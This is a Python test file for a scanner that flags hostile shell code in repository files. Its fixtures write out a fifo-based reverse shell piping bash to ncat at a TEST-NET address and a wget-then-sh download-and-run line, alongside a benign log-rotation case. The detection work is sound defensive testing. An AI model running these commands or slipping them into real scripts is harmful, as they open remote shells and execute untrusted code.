"""Code handed to ``sh -c`` in a double-quoted string with pieces known only at run time (a fifo named
after a random id) is still read as the program it is: its shape, unknown pieces as ``*``. Hosts are
TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_fifo_shell_named_at_run_time_wired_to_nc_is_a_remote_shell(tmp_path: Path) -> None:
    source = (
        "#!/bin/sh\n"
        "PEER=192.0.2.41\n"
        'pipe="${TMPDIR:-/tmp}/.p$(date +%s)"\n'
        'mkfifo "$pipe"\n'
        'nohup bash -c "/bin/bash -i < $pipe 2>&1 | ncat $PEER 9001 > $pipe" >/dev/null 2>&1 &\n'
    )
    errors = scan_errors(tmp_path, {"tools/assist.sh": source})
    assert ("REMOTE_SHELL", "tools/assist.sh", 5) in errors


def test_a_download_run_by_sh_c_with_a_run_time_path_is_download_and_run(tmp_path: Path) -> None:
    source = 'dest="/tmp/u-$RANDOM"\nsh -c "wget -qO $dest http://198.51.100.23/u.sh && sh $dest"\n'
    errors = scan_errors(tmp_path, {"scripts/up.sh": source})
    assert [e for e in errors if e[0] == "DOWNLOAD_AND_RUN"]


def test_a_log_rotation_with_a_run_time_name_is_no_error(tmp_path: Path) -> None:
    source = (
        'log="$HOME/.cache/app/run-$(date +%F).log"\n'
        'sh -c "gzip -9 $log && mv $log.gz $HOME/.cache/app/archive/" >/dev/null 2>&1 &\n'
        'bash -c "tail -n 50 $log | grep -i error || true"\n'
    )
    assert scan_errors(tmp_path, {"scripts/rotate.sh": source}) == set()
